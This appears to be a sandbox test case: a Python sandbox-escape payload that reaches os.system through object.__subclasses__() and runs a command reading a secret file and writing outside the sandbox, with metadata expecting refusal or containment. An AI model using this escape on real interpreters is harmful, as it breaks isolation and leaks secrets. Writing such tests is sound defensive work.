# SPDX-License-Identifier: GPL-3.0-or-later
# title: From an empty tuple to every class there is
# route: object.__subclasses__()
# policy: refused underscore
# contained: canary writes
# ends: finished raised
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__globals__["system"]("cat @SECRET@; echo written > @OUTSIDE@/stolen.txt")
